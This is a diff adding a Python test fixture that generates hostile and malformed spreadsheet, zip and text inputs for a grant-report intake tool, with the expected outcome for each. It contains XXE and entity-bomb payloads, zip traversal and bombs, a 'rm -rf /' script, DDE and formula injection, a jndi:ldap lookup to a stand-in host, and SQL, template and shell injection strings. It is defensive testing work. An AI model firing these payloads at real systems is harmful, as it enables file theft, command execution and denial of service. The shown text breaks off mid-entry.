@@ -1,0 +1,858 @@
+"""Hostile and odd files, each made from a good return, with what is to become of it.
+
+`python -m tests.hostile --to FOLDER` writes them all, to be looked at or sent to another program.
+"""
+
+import argparse
+import gzip
+import io
+import os
+import re
+import resource
+import socket
+import struct
+import time
+import warnings
+import zipfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from decimal import Decimal
+from pathlib import Path
+from random import Random
+from typing import Literal
+from xml.sax.saxutils import escape
+
+from openpyxl import load_workbook
+from openpyxl.comments import Comment
+from openpyxl.workbook import Workbook
+
+from statsbidrag import intake, recount
+from statsbidrag.model import Return
+from tests import planted
+from tests.filling import place
+from tests.planted import COSTS, NUMBER, Make, as_csv, edited, fields, filled, good, line, raw, rewritten, zipped
+
+Outcome = Literal["accepted", "warned", "held", "refused", "skipped"]
+COSTS_PART, ACTIVITIES_PART, FORM_PART = (f"xl/worksheets/sheet{number}.xml" for number in (3, 4, 2))
+
+
+@dataclass(frozen=True)
+class Odd:
+    """One file of the corpus: its name in the inbox, how it is made, what becomes of it and by which rules."""
+
+    name: str
+    make: Make | Callable[[Path], object]
+    """The bytes; or, for what is skipped, how it is placed at a path."""
+    outcome: Outcome
+    rules: tuple[str, ...] = ()
+
+
+# -- a part of the good workbook, written otherwise ------------------------------------------------------------------
+
+
+def xml(old: str, new: str, part: str = COSTS_PART, count: int = 1) -> Make:
+    """The good workbook with a piece of its XML replaced, as the spreadsheet of another program or hand has it."""
+    return rewritten(part, lambda content: content.replace(old.encode(), new.encode(), count))
+
+
+def _amount(value: str, kind: str = "n") -> Make:
+    """The third line's amount cell with another value element and type."""
+    return xml('t="n"><v>30000.25</v>', f't="{kind}">{value}')
+
+
+def _pattern(pattern: str, new: str, part: str = COSTS_PART) -> Make:
+    return rewritten(part, lambda content: re.sub(pattern.encode(), new.encode(), content))
+
+
+def _added(after: str, what: str, part: str = COSTS_PART) -> Make:
+    return xml(after, after + what, part)
+
+
+def _part(name: str, content: str | bytes) -> Make:
+    return zipped(lambda archive: archive.writestr(name, content))
+
+
+def _member(name: str, **changes: int) -> Make:
+    """The good workbook with one more member, of which the zip says odd things."""
+
+    def add(archive: zipfile.ZipFile) -> None:
+        member = zipfile.ZipInfo(name)
+        for field, value in changes.items():
+            setattr(member, field, value)
+        archive.writestr(member, b"x" * 100)
+
+    return zipped(add)
+
+
+def _twice(name: str) -> Make:
+    def add(archive: zipfile.ZipFile) -> None:
+        with warnings.catch_warnings(action="ignore"):
+            archive.writestr(name, archive.read(COSTS_PART).replace(b"30000.25", b"99999.25"))
+
+    return zipped(add)
+
+
+def _patched(change: Callable[[bytearray], object]) -> Make:
+    """The good workbook with some of its bytes changed in place."""
+
+    def make() -> bytes:
+        content = bytearray(good())
+        change(content)
+        return bytes(content)
+
+    return make
+
+
+def _many(archive: zipfile.ZipFile) -> None:
+    for number in range(2001):
+        archive.writestr(f"xl/media/{number}", b"")
+
+
+def _directory(content: bytearray, offset: int, layout: str, value: int) -> None:
+    """Write a field of every entry of the zip's central directory."""
+    at = content.find(b"PK\x01\x02")
+    while at >= 0:
+        struct.pack_into(layout, content, at + offset, value)
+        at = content.find(b"PK\x01\x02", at + 1)
+
+
+def _overlap(content: bytearray) -> None:
+    """Every entry of the central directory stands for the bytes of the first member that is large."""
+    at = content.find(b"PK\x01\x02")
+    while at >= 0:
+        struct.pack_into("<L", content, at + 20, len(content) // 2)
+        at = content.find(b"PK\x01\x02", at + 1)
+
+
+def _zip(*members: tuple[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", kind) as archive:
+        for name, content in members:
+            archive.writestr(name, content)
+    return packed.getvalue()
+
+
+def _renamed(book: str) -> Make:
+    """The good workbook with its main part elsewhere, as some services export it."""
+
+    def make() -> bytes:
+        members: list[tuple[str, str | bytes]] = []
+        with zipfile.ZipFile(io.BytesIO(good())) as archive:
+            for name in archive.namelist():
+                content = archive.read(name).replace(b"xl/workbook.xml", f"xl/{book}.xml".encode())
+                members.append(
+                    (
+                        name.replace("xl/workbook.xml", f"xl/{book}.xml").replace(
+                            "workbook.xml.rels", f"{book}.xml.rels"
+                        ),
+                        content,
+                    )
+                )
+        return _zip(*members)
+
+    return make
+
+
+def _wide(part: str = COSTS_PART) -> Make:
+    """A part in UTF-16, which XML allows."""
+    return rewritten(part, lambda content: content.decode().encode("utf-16"))
+
+
+def _ole(*names: str) -> bytes:
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + b"".join(n.encode("utf-16-le") + bytes(64) for n in names)
+
+
+def _types(kind: str) -> bytes:
+    return _zip(("[Content_Types].xml", f'<Types><Override ContentType="application/vnd.{kind}"/></Types>'))
+
+
+def _odf(kind: str) -> bytes:
+    return _zip(("mimetype", f"application/vnd.oasis.opendocument.{kind}"), ("content.xml", "<x/>"))
+
+
+def _name(name: str, refers: str) -> Make:
+    """A defined name of the form that stands for something else."""
+    return _pattern(f'(<definedName name="{name}">)[^<]*', rf"\g<1>{refers}", "xl/workbook.xml")
+
+
+def _titled(title: str) -> Make:
+    """The costs on a sheet of another name; the table is still found."""
+    return _pattern('name="Kostnader" sheetId', f'name="{escape(title)}" sheetId', "xl/workbook.xml")
+
+
+def _rel(kind: str, target: str, mode: str = "") -> Make:
+    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
+    said = f'<Relationship Id="rX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
+    return xml("</Relationships>", said, "xl/worksheets/_rels/sheet3.xml.rels")
+
+
+# -- files that are something else -----------------------------------------------------------------------------------
+
+OTHER_KINDS: Mapping[str, tuple[bytes, str]] = {
+    "gammal.xls": (_ole("Workbook"), "fil-xls"),
+    "gammal 95.xls": (_ole("Book"), "fil-xls"),
+    "xls med fel namn.xlsx": (_ole("Workbook"), "fil-xls"),
+    "excel 2.xls": (b"\x09\0\x04\0\x02\0\x10\0" + bytes(99), "fil-xls"),
+    "excel 4.xls": (b"\x09\x04\x06\0\x00\0\x10\0" + bytes(99), "fil-xls"),
+    "excel 5.xls": (b"\x09\x08\x10\0\x00\x05\x05\0" + bytes(99), "fil-xls"),
+    "lösenord.xlsx": (_ole("EncryptionInfo", "EncryptedPackage"), "fil-losenord"),
+    "lösenord.csv": (_ole("EncryptedPackage"), "fil-losenord"),
+    "brev.doc": (_ole("WordDocument"), "fil-dokument"),
+    "bilder.ppt": (_ole("PowerPoint Document"), "fil-dokument"),
+    "mejl.msg": (_ole("__substg1.0_0037001F"), "fil-epost"),
+    "okänd ole.xlsx": (_ole("Något annat"), "fil-fel-format"),
+    "binär.xlsb": (_types("ms-excel.sheet.binary.macroEnabled.main"), "fil-xlsb"),
+    "binär.xlsx": (_types("ms-excel.sheet.binary.macroEnabled.main"), "fil-xlsb"),
+    "kalkyl.ods": (_odf("spreadsheet"), "fil-ods"),
+    "kalkyl från ods.xlsx": (_odf("spreadsheet"), "fil-ods"),
+    "text.odt": (_odf("text"), "fil-dokument"),
+    "brev.docx": (_types("openxmlformats-officedocument.wordprocessingml.document.main+xml"), "fil-dokument"),
+    "bilder.pptx": (_types("openxmlformats-officedocument.presentationml.presentation.main+xml"), "fil-dokument"),
+    "office utan bok.xlsx": (_types("openxmlformats-officedocument.vmlDrawing"), "fil-fel-format"),
+    "äpple.numbers": (_zip(("Index/Document.iwa", b"\0")), "fil-numbers"),
+    "allt.zip": (_zip(("farsta.csv", b"bidrag;namnd")), "fil-arkiv"),
+    "allt i zip.xlsx": (_zip(("mapp/farsta.csv", b"bidrag;namnd")), "fil-arkiv"),
+    "tomt arkiv.zip": (_zip(), "fil-arkiv"),
+    "packad.csv.gz": (gzip.compress(b"bidrag;namnd", mtime=0), "fil-arkiv"),
+    "packad.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(40), "fil-arkiv"),
+    "packad.rar": (b"Rar!\x1a\x07\0" + bytes(40), "fil-arkiv"),
+    "utskrift.pdf": (b"%PDF-1.7\n1 0 obj", "fil-pdf"),
+    "utskrift.xlsx": (b"%PDF-1.4\n1 0 obj", "fil-pdf"),
+    "skärm.png": (b"\x89PNG\r\n\x1a\n" + bytes(40), "fil-bild"),
+    "foto.jpg": (b"\xff\xd8\xff\xe0" + bytes(40), "fil-bild"),
+    "rörlig.gif": (b"GIF89a" + bytes(40), "fil-bild"),
+    "ritad.bmp": (b"BM\x36\x10\0\0\0\0\0\0" + bytes(40), "fil-bild"),
+    "inläst.tif": (b"II*\0" + bytes(40), "fil-bild"),
+    "telefon.heic": (b"\0\0\0\x18ftypheic" + bytes(40), "fil-bild"),
+    "brev.rtf": (b"{\\rtf1\\ansi Redovisning}", "fil-dokument"),
+    "webb.xls": (b"<html><body><table><tr><td>1;2</td></tr></table></body></html>", "fil-webbsida"),
+    "webb.html": ("\ufeff\n<!DOCTYPE html>\n<html><p>a, b</p>".encode(), "fil-webbsida"),
+    "webb utf-16.xls": ("<html><table><tr><td>1;2</td></tr></table>".encode("utf-16"), "fil-webbsida"),
+    "webb i ett.xls": (b"MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\n\r\na;b", "fil-webbsida"),
+    "mejl.eml": (b"Received: from x; by y\r\nSubject: a, b\r\n", "fil-epost"),
+    "kalkyl 2003.xml": (b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?><Workbook/>', "fil-xml"),
+    "kalkyl 2003.xls": (b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?><Workbook/>', "fil-xml"),
+    "bild.svg": (b"<svg onload='alert(1;2)'/>", "fil-xml"),
+    "faktura.pdf.exe": (b"MZ\x90\0" + bytes(40), "fil-program"),
+    "program": (b"\x7fELF\x02\x01" + bytes(40), "fil-program"),
+    "städa.sh": (b"#!/bin/sh\nrm -rf /; echo a,b\n", "fil-program"),
+    "farsta.xlsx.lnk": (b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(40), "fil-genvag"),
+    "farsta.url": (b"[InternetShortcut]\r\nURL=file:///etc/passwd\r\n", "fil-genvag"),
+    "tom.xlsx": (b"", "fil-tom"),
+    "tom.csv": (b"", "fil-tom"),
+    "bara blanka.csv": (b" \r\n\t\r\n", "fil-tom"),
+    "bara nollor.xlsx": (bytes(5000), "fil-tom"),
+    "bara märke.csv": (b"\xef\xbb\xbf", "fil-tom"),
+    "brus.xlsx": (Random(5).randbytes(5000), "fil-fel-format"),
+    "databas.db": (b"SQLite format 3\0" + bytes(100), "fil-fel-format"),
+    "anteckning.md": (b"Redovisningen kommer i morgon", "fil-fel-format"),
+    "skräp före.xlsx": (b"x\0" + planted.good.__doc__.encode(), "fil-fel-format"),  # type: ignore[union-attr]
+    "bara signatur.xlsx": (b"PK\x03\x04", "fil-trasig"),
+}
+
+# -- zips ------------------------------------------------------------------------------------------------------------
+
+ZIPS: Mapping[str, tuple[Make, Outcome, str]] = {
+    "absolut namn": (_part("/etc/x.xml", "<x/>"), "refused", "fil-misstankt"),
+    "namn uppåt": (_part("../../x.xml", "<x/>"), "refused", "fil-misstankt"),
+    "namn uppåt i mitten": (_part("xl/../../x.xml", "<x/>"), "refused", "fil-misstankt"),
+    "namn uppåt bakvänt": (_part("xl\\..\\..\\x.xml", "<x/>"), "refused", "fil-misstankt"),
+    "enhet i namn": (_part("C:/x.xml", "<x/>"), "refused", "fil-misstankt"),
+    "samma del två gånger": (_twice(COSTS_PART), "refused", "fil-misstankt"),
+    "samma del i versaler": (_twice("XL/Worksheets/Sheet3.xml"), "refused", "fil-misstankt"),
+    "samma del bakvänt": (_twice("xl\\worksheets\\sheet3.xml"), "refused", "fil-misstankt"),
+    "länk i arkivet": (_member("xl/länk", external_attr=0o120777 << 16), "refused", "fil-misstankt"),
+    "enhet i arkivet": (_member("xl/rör", external_attr=0o010666 << 16), "refused", "fil-misstankt"),
+    "packad med bzip2": (_member("xl/media/x", compress_type=zipfile.ZIP_BZIP2), "refused", "fil-misstankt"),
+    "packad med lzma": (_member("xl/media/x", compress_type=zipfile.ZIP_LZMA), "refused", "fil-misstankt"),
+    "tusentals delar": (
+        zipped(_many),
+        "refused",
+        "fil-misstankt",
+    ),
+    "delar som delar byte": (_patched(_overlap), "refused", "fil-misstankt"),
+    "krypterad del": (_patched(lambda c: _directory(c, 8, "<H", 1)), "refused", "fil-losenord"),
+    "storlek som ljuger": (_patched(lambda c: _directory(c, 24, "<L", 10)), "refused", "fil-trasig"),
+    "kontrollsumma fel": (_patched(lambda c: _directory(c, 16, "<L", 1)), "refused", "fil-trasig"),
+    "bomb på 61 MB": (_part("xl/media/x.bin", bytes(61_000_000)), "refused", "fil-for-stor"),
+    "bomb på 30 MB": (_part("xl/media/x.bin", bytes(30_000_000)), "refused", "fil-misstankt"),
+    "klippt på mitten": (lambda: good()[: len(good()) // 2], "refused", "fil-trasig"),
+    "klippt i slutet": (lambda: good()[:-30], "refused", "fil-trasig"),
+    "utan innehållsförteckning": (lambda: good()[: good().index(b"PK\x01\x02")], "refused", "fil-trasig"),
+    "bok utan namn på delar": (rewritten("[Content_Types].xml", lambda _: b"<x/>"), "refused", "fil-trasig"),
+    "bok utan innehåll": (rewritten("xl/workbook.xml", lambda _: b""), "refused", "fil-trasig"),
+    "huvuddel med annat namn": (_renamed("workbook2"), "refused", "fil-fel-format"),
+    "strikt": (
+        xml("schemas.openxmlformats.org/spreadsheetml", "purl.oclc.org/ooxml/spreadsheetml", "xl/workbook.xml"),
+        "refused",
+        "fil-strikt",
+    ),
+    "arkiv i boken": (_part("xl/media/x.zip", _zip(("a", b"b"))), "accepted", ""),
+    "kommentar i arkivet": (zipped(lambda z: setattr(z, "comment", b"= 1+1" * 500)), "accepted", ""),
+    "två slut på arkivet": (zipped(lambda z: setattr(z, "comment", b"PK\x05\x06" * 500)), "refused", "fil-trasig"),
+    "främmande del": (_part("customXml/item1.xml", '<row r="99999999"/>'), "refused", "fil-for-manga-rader"),
+    "bladnamn som Excel inte tillåter": (_titled("Kost*nader"), "refused", "fil-trasig"),
+    "trasig bild": (_part("xl/media/bild.png", b"\x89PNG\r\n\x1a\n" + bytes(40)), "accepted", ""),
+}
+
+# -- XML -------------------------------------------------------------------------------------------------------------
+
+_BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+_DOCTYPES = {
+    "doctype": "<!DOCTYPE worksheet>",
+    "doctype utanför": '<!DOCTYPE worksheet SYSTEM "http://x.invalid/x.dtd">',
+    "tusen skratt": f'<!DOCTYPE x [<!ENTITY a0 "ha">{_BOMB}]>',
+    "fil på disken": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
+    "parameterentitet": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.invalid/a"> %a;]>',
+}
+_ROWS_WITHOUT_END = "<row/>" * 30_000
+_CELLS_WITHOUT_END = f"<row>{'<c/>' * 200}</row>" * 600
+_FAR = "XFD1048576"
+
+XML: Mapping[str, tuple[Make, Outcome, str]] = {
+    **{
+        name: (xml("<worksheet", f"{doctype}<worksheet"), "refused", "fil-misstankt")
+        for name, doctype in _DOCTYPES.items()
+    },
+    "doctype i relationer": (
+        xml("<Relationships", "<!DOCTYPE x><Relationships", "_rels/.rels"),
+        "refused",
+        "fil-misstankt",
+    ),
+    "doctype i utf-16": (
+        rewritten(COSTS_PART, lambda c: f"<!DOCTYPE x>{c.decode()}".encode("utf-16")),
+        "refused",
+        "fil-misstankt",
+    ),
+    "okänd teckenkod": (
+        xml("<worksheet", '<?xml version="1.0" encoding="UTF-7"?><worksheet'),
+        "refused",
+        "fil-trasig",
+    ),
+    "trasig xml": (xml("</sheetData>", "</sheetDat>"), "refused", "fil-trasig"),
+    "trasig stil": (rewritten("xl/styles.xml", lambda c: c[:500]), "refused", "fil-trasig"),
+    "utf-16": (_wide(), "held", "fil-laser-olika"),
+    "enkla citattecken": (_pattern(r'r="([A-Z]+[0-9]+)"', r"r='\1'"), "accepted", ""),
+    "kommentarer i xml": (_pattern(r"<sheetData>", r"<!-- &#61;1+1 --><?php x?><sheetData>"), "accepted", ""),
+    "cdata": (xml("Juli till september", "<![CDATA[Juli till september]]>"), "accepted", ""),
+    "hundratusen nivåer": (
+        xml("</sheetData>", f"</sheetData>{'<a>' * 90_000}{'</a>' * 90_000}"),
+        "accepted",
+        "",
+    ),
+    **{
+        f"långt bort, {how}": (xml('<c r="A1"', f"<c{written}"), "refused", "fil-for-manga-rader")
+        for how, written in {
+            "som vanligt": f' r="{_FAR}"',
+            "enkla citattecken": f" r='{_FAR}'",
+            "radbryt": f'\n\tr="{_FAR}"',
+            "teckenkoder": ' r="&#88;FD1048576"',
+            "åt höger": ' r="XFD1"',
+            "nedåt": ' r="A1048576"',
+            "efter andra fält": f' foo="{"x" * 500}" r="{_FAR}"',
+        }.items()
+    },
+    "långt bort i utf-16": (
+        rewritten(
+            COSTS_PART, lambda c: c.replace(b'<c r="A1"', f'<c r="{_FAR}"'.encode(), 1).decode().encode("utf-16")
+        ),
+        "refused",
+        "fil-for-manga-rader",
+    ),
+    "rad långt bort": (xml('<row r="2"', '<row r="1048576"'), "refused", "fil-for-manga-rader"),
+    "rad som brutet tal": (xml('<row r="2"', '<row r="2e0"'), "refused", "fil-misstankt"),
+    "rader utan slut": (xml("</sheetData>", f"{_ROWS_WITHOUT_END}</sheetData>"), "refused", "fil-for-manga-rader"),
+    "celler utan slut": (xml("</sheetData>", f"{_CELLS_WITHOUT_END}</sheetData>"), "refused", "fil-for-mycket"),
+    "kolumner utan slut": (xml("</row>", f"{'<c/>' * 300}</row>"), "refused", "fil-for-manga-rader"),
+    "adress i gemener": (xml('<c r="H8"', '<c r="h8"'), "refused", "fil-misstankt"),
+    "adress utan rad": (xml('<c r="H8"', '<c r="H"'), "refused", "fil-misstankt"),
+    "rad noll": (xml('<c r="H8"', '<c r="H0"'), "refused", "fil-misstankt"),
+    "samma cell två gånger": (_added("<v>30000.25</v></c>", '<c r="H8"><v>1</v></c>'), "refused", "fil-misstankt"),
+    "samma rad två gånger": (
+        xml("</sheetData>", '<row r="8"><c r="H8"><v>1</v></c></row></sheetData>'),
+        "refused",
+        "fil-misstankt",
+    ),
+    "två värden i en cell": (_amount("<v>30000.25</v><v>1</v>"), "refused", "fil-misstankt"),
+    "tal med understreck": (_amount("<v>30_000</v>"), "refused", "fil-misstankt"),
+    "tal i fullbredd": (_amount("<v>３００００</v>"), "refused", "fil-misstankt"),
+    "tal i arabiska siffror": (_amount("<v>٣٠٠٠٠</v>"), "refused", "fil-misstankt"),
+    "tal som inte är tal": (_amount("<v>NaN</v>"), "refused", "fil-misstankt"),
+    "tal utan gräns": (_amount("<v>1e999</v>"), "held", "belopp-olasligt"),
+    "tal med tusen siffror": (_amount(f"<v>{'9' * 5000}</v>"), "refused", "fil-misstankt"),
+    "text med minusnummer": (_amount("<v>-1</v>", "s"), "refused", "fil-misstankt"),
+    "text som saknas": (_amount("<v>99999</v>", "s"), "refused", "fil-trasig"),
+    "okänd celltyp": (_amount("<v>30000.25</v>", "x"), "refused", "fil-misstankt"),
+    "sant som ord": (_amount("<v>true</v>", "b"), "refused", "fil-misstankt"),
+    "tal med blanktecken": (_amount("<v> 30000.25 </v>"), "held", "fil-laser-olika"),
+    "belopp i främmande namnrymd": (
+        xml('<c r="H8"', '<c xmlns="urn:x" r="H8"'),
+        "held",
+        "obligatorisk-cell-tom",
+    ),
+    "delat namn på bladet": (
+        _pattern(
+            'Target="/xl/worksheets/sheet4.xml"', 'Target="/xl/worksheets/sheet3.xml"', "xl/_rels/workbook.xml.rels"
+        ),
+        "refused",
+        "fil-misstankt",
+    ),
+    "samma blad många gånger": (
+        _pattern(r'(<sheet [^>]*name="Villkor"[^>]*/>)', r"\1" * 50, "xl/workbook.xml"),
+        "refused",
+        "fil-misstankt",
+    ),
+    "hundratals blad": (
+        xml(
+            "</sheets>",
+            "".join(f'<sheet name="B{n}" sheetId="{n + 9}" r:id="x{n}" xmlns:r="urn:r"/>' for n in range(200))
+            + "</sheets>",
+            "xl/workbook.xml",
+        ),
+        "refused",
+        "fil-for-mycket",
+    ),
+    "blad bland länkarna": (
+        _pattern('Target="/xl/worksheets/sheet5.xml"', 'Target="externalLinks/x.xml"', "xl/_rels/workbook.xml.rels"),
+        "refused",
+        "fil-misstankt",
+    ),
+    "dimension som ljuger lite": (_pattern('<dimension ref="[^"]*"', '<dimension ref="A1"'), "accepted", ""),
+    "dimension som ljuger mycket": (_pattern('<dimension ref="[^"]*"', f'<dimension ref="A1:{_FAR}"'), "accepted", ""),
+    "hela bladet sammanfogat": (
+        xml("</sheetData>", f'</sheetData><mergeCells><mergeCell ref="A1:{_FAR}"/></mergeCells>'),
+        "refused",
+        "fil-for-manga-rader",
+    ),
+    "mycket sammanfogat": (
+        xml("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:IV20000"/></mergeCells>'),
+        "refused",
+        "fil-for-mycket",
+    ),
+    "beloppen sammanfogade": (
+        xml("</sheetData>", '</sheetData><mergeCells><mergeCell ref="H8:H9"/></mergeCells>'),
+        "held",
+        "obligatorisk-cell-tom",
+    ),
+    "länk långt bort": (
+        xml("</sheetData>", f'</sheetData><hyperlinks><hyperlink ref="{_FAR}" location="A1"/></hyperlinks>'),
+        "refused",
+        "fil-for-manga-rader",
+    ),
+    "länk överallt": (
+        xml("</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1:IV20000" location="A1"/></hyperlinks>'),
+        "refused",
+        "fil-for-mycket",
+    ),
+    "tabell utan slut": (
+        _pattern(' ref="A5:I25"', ' ref="A5:I1048576"', "xl/tables/table1.xml"),
+        "refused",
+        "fil-for-manga-rader",
+    ),
+    "tabell utan område": (_pattern(' ref="A5:I25"', ' ref="A5"', "xl/tables/table1.xml"), "held", "fil-laser-olika"),
+    "tabell på fel rad": (_pattern(' ref="A5:I25"', ' ref="A1:I25"', "xl/tables/table1.xml"), "held", "kolumn-saknas"),
+    "namn långt bort": (_name("version", "Redovisning!$XFD$1048576"), "held", "obligatorisk-cell-tom"),
+    "namn på en kolumn": (_name("prognos", "Redovisning!$C:$C"), "accepted", ""),
+    "namn på en rad": (_name("prognos", "Redovisning!$5:$5"), "accepted", ""),
+    "namn på ingenting": (_name("prognos", "#REF!"), "accepted", ""),
+    "namn i annan bok": (_name("prognos", "[1]Blad1!$A$1"), "accepted", ""),
+    "namn som är en formel": (_name("prognos", "WEBSERVICE(&quot;http://x.invalid&quot;)"), "accepted", ""),
+    "namn på många celler": (_name("prognos", "Redovisning!$C$16:$XFD$1048576"), "accepted", ""),
+    "hundratusentals format": (
+        _pattern("</cellXfs>", "<xf/>" * 110_000 + "</cellXfs>", "xl/styles.xml"),
+        "refused",
+        "fil-for-mycket",
+    ),
+    "hundratusentals texter": (
+        _part("xl/sharedStrings.xml", f"<sst>{''.join(f'<si><t>{n}</t></si>' for n in range(210_000))}</sst>"),
+        "refused",
+        "fil-for-mycket",
+    ),
+    "anteckning långt bort": (
+        _part("xl/comments9.xml", f'<comments><commentList><comment ref="{_FAR}"/></commentList></comments>'),
+        "refused",
+        "fil-for-manga-rader",
+    ),
+}
+
+# -- macros, links and what is embedded: told, never followed or run -------------------------------------------------
+
+_EXTERNAL = ' TargetMode="External"'
+ACTIVE: Mapping[str, tuple[Make, str]] = {
+    "makron": (_part("xl/vbaProject.bin", _ole("VBA")), "fil-makron"),
+    "makron under annat namn": (_rel("vbaProject", "/xl/x.bin"), "fil-makron"),
+    "makroblad": (_part("xl/macrosheets/sheet1.xml", "<x/>"), "fil-makron"),
+    "activex": (_part("xl/activeX/activeX1.xml", "<x/>"), "fil-makron"),
+    "länk till annan bok": (
+        _part("xl/externalLinks/externalLink1.xml", '<externalLink><row r="99999"/></externalLink>'),
+        "fil-lankar",
+    ),
+    "dde": (
+        _part(
+            "xl/externalLinks/externalLink1.xml",
+            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
+        ),
+        "fil-lankar",
+    ),
+    "databaskoppling": (_part("xl/connections.xml", '<connections><connection type="1"/></connections>'), "fil-lankar"),
+    "webbfråga": (_part("xl/queryTables/queryTable1.xml", "<x/>"), "fil-lankar"),
+    "bild från nätet": (_rel("image", "http://x.invalid/x.png", _EXTERNAL), "fil-lankar"),
+    "mall från nätet": (_rel("attachedTemplate", "http://x.invalid/x.dotm", _EXTERNAL), "fil-lankar"),
+    "inbäddat objekt": (_part("xl/embeddings/oleObject1.bin", _ole("x")), "fil-inbaddat"),
+    "inbäddat paket": (_rel("package", "/xl/x.docx"), "fil-inbaddat"),
+}
+
+# -- texts that are code somewhere -----------------------------------------------------------------------------------
+
+TEXTS: Mapping[str, str] = {
+    "html": "<script>alert('x')</script><b>fet</b>",
+    "html bild": '<img src="http://x.invalid/x.png" onerror=alert(1)>"><iframe src=file:///etc/passwd>',
+    "html kommentar": "--><!-- ]]> </td></table> &lt;script&gt; &#60;i&#62;",
+    "jinja": "{{ 7*7 }} {% include '/etc/passwd' %} {# borta #} {{ config }}",
+    "docxtpl": "{{r x }} {%tr for x in y %} {%p if 1 %} </w:t></w:r><w:br/>",
+    "formel": "=1+1",
+    "formel länk": '=HYPERLINK("http://x.invalid/?"&A1,"Klicka")',
+    "formel program": "=cmd|' /C calc'!A0",
+    "formel plus": "+1+1",
+    "formel minus": "-1+1",
+    "formel snabel-a": "@SUM(1+1)",
+    "formel tabb": "\t=1+1",
+    "formel radbryt": "\r\n=1+1",
+    "sql": "'; DROP TABLE board; -- \" OR 1=1 $1 ? :x %(x)s",
+    "typst": '#read("/etc/passwd") *fet* _k_ $x$ @ref <etikett> #image("x") = Rubrik \\ // #{1+1} `x` ~',
+    "latex": "\\input{/etc/passwd} \\write18{id} % borta",
+    "skal": "$(id) `id` ; id | id && id > x ${HOME} %PATH% !!",
+    "logg": "${jndi:ldap://x.invalid/a} %s %n %d {0} {name} \\n \\u0041",
+    "länk": "javascript:alert(1) http://x.invalid/x file:///etc/passwd \\\\x.invalid\\x mailto:x@x.invalid",
+    "nollbredd": "Förä\u200bldra\u200cgrup\u200dper\ufeff\u00ad",
+    "höger till vänster": "Faktura \u202excod.\u202c \u2067abc\u2069 \u200f",
+    "arabiska och hebreiska": "مرحبا שלום 123",
+    "styrtecken c1": "röd \x9b31m text \x85 ny rad \x90",
+    "styrtecken som text": "_x001B_[31m _x0000_ _x000D_",
+    "sammansatta tecken": "Z" + "\u0335\u0321\u0353" * 200,
+    "utanför bmp": "👩‍👩‍👧‍👦 🏳️‍🌈 𝔽𝕒𝕣𝕤𝕥𝕒 \U0010ffff",
+    "nedbruten": "Fo\u0308ra\u0308ldragrupper a\u030a",
+    "ersättningstecken": "F\ufffdr\ufffdldra",
+    "ligaturer": "ﬁ ﬂ ½ Ⅷ １２３ ①",
+    "mycket långt": "å" * 32_000,
+    "ett enda långt ord": "x" * 32_767,
+    "många rader": "rad\n" * 5_000,
+    "json": '{"a": "\\u0000", "b": [1, 2]} \\" \\\\',
+    "tomma värden": "NULL None nan #N/A TRUE -0 1e5",
+    "citattecken": "\"'”’«» \"\" '' ;,\t|",
+}
+
+_IN_CSV = [name for name in TEXTS if name not in {"ersättningstecken", "styrtecken c1"}]
+
+
+def _commented(text: str) -> Make:
+    """A text as the comment of a cost line and as the result of an activity."""
+    shown = escape(text, {"\r": "&#13;", "\n": "&#10;", "\t": "&#9;"})
+
+    def make() -> bytes:
+        content = rewritten(COSTS_PART, lambda c: c.replace(b"Juli till september", shown.encode()))()
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            members = [(name, archive.read(name)) for name in archive.namelist()]
+        return _zip(
+            *((n, c.replace(b"Fler har tackat ja.", shown.encode()) if n == ACTIVITIES_PART else c) for n, c in members)
+        )
+
+    return make
+
+
+def _quoted(text: str) -> str:
+    return '"' + text.replace('"', '""').replace("\r\n", "\n") + '"'
+
+
+def with_texts() -> bytes:
+    """A good return in which every field that takes a text holds one that is code somewhere."""
+    costs = [
+        {
+            **COSTS[place % 4],
+            "Verifikation": f"V{place}",
+            "Insats": text[:900],
+            "Kommentar": text,
+            "Projekt": text[:200],
+        }
+        for place, text in enumerate(TEXTS.values())
+    ]
+    activities = [
+        {"Insats": text[:900], "Beskrivning": text[:900], "Resultat": text, "Målgrupp": text[:500], "Antal kvinnor": 7}
+        for text in TEXTS.values()
+    ]
+    form = {"orsak_ej_forbrukat": TEXTS["html bild"], "kontaktperson": TEXTS["jinja"], "epost": TEXTS["typst"]}
+    form |= {"intygas_av": TEXTS["html"], "intygas_befattning": TEXTS["sql"]}
+    total = sum((Decimal(str(row["Belopp"])) for row in costs), Decimal(0))
+    return _as_text(filled(header={**form, "summa_kostnader": total}, costs=costs, activities=activities))
+
+
+def _as_text(content: bytes) -> bytes:
+    """The texts that openpyxl took for formulas, as the texts that somebody types with an apostrophe first."""
+    book = load_workbook(io.BytesIO(content))
+    for sheet in ("Kostnader", "Insatser"):
+        for cell in (cell for row in book[sheet].iter_rows(min_row=6) for cell in row if cell.data_type == "f"):
+            cell.data_type = "s"
+    saved = io.BytesIO()
+    book.save(saved)
+    return saved.getvalue()
+
+
+# -- single cells that are no amount and no day ----------------------------------------------------------------------
+
+CELLS: Mapping[str, tuple[Make, Outcome, str]] = {
+    "belopp arabiska siffror": (line(2, Belopp="٣٠٠٠٠"), "held", "belopp-olasligt"),
+    "belopp typografiskt minus": (line(2, Belopp="−500"), "held", "belopp-olasligt"),
+    "belopp hexadecimalt": (line(2, Belopp="0x7530"), "held", "belopp-olasligt"),
+    "belopp formel som text": (
